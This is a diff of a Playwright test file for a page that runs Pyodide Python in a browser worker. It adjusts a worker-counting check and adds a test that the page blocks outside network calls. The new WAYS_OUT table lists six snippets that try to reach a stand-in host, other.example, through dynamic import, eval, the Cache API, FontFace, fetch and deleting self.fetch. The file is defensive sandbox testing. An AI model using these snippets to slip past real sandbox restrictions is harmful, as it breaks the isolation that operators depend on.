@@ -320,7 +320,7 @@ def test_stop(tab: Open, loop: str) -> None:
     assert press(block) == "edited"
     assert output(block) == "again\n"
     for _ in range(50):  # the browser takes its time to clear away the one that was ended
-        if sum("runner/worker" in worker.url for worker in page.workers) == 1:
+        if sum(worker.url.startswith("blob:") for worker in page.workers) == 1:
             return
         page.wait_for_timeout(100)
     pytest.fail("the endless block still runs")
@@ -548,6 +548,33 @@ def test_nothing_of_python_before_it_is_wanted(tab: Open, base_url: str) -> None
     go(page.locator("#cart")).hover()
     page.wait_for_timeout(1500)
     assert [url for url in asked if late.match(url)]
+
+
+WAYS_OUT = {
+    "import": "run_js(\"import('http://other.example/docs/assets/site.js')\")",
+    "eval": "import js\njs.eval(\"import('http://other.example/docs/assets/site.js')\")",
+    "cache": "import js\ncache = await js.caches.open('x')\nawait cache.add('http://other.example/docs/')",
+    "font": "import js\nawait js.FontFace.new('x', 'url(http://other.example/docs/x.woff2)').load()",
+    "fetch": "import js\nawait js.fetch('http://other.example/docs/')",
+    "descriptor": "run_js(\"delete self.fetch; self.fetch('http://other.example/docs/')\")",
+}
+
+
+def test_hostile_code_reaches_no_other_host(tab: Open, hosts: set[str]) -> None:
+    """The policy of the page binds its Python too: a block that goes round the worker's own refusal gets nowhere."""
+    page = tab()
+    block = page.locator(HOME)
+    for way in WAYS_OUT.values():
+        write(
+            page,
+            block,
+            f"from pyodide.code import run_js\nprint('tries')\n{way}\nimport asyncio\nawait asyncio.sleep(0.5)",
+        )
+        press(block)
+        assert output(block).startswith("tries\n")
+    page.wait_for_timeout(500)
+    assert "docs.localhost" in hosts
+    assert "other.example" not in hosts
 
 
 def test_a_second_page_fetches_nothing_again(tab: Open, base_url: str) -> None:
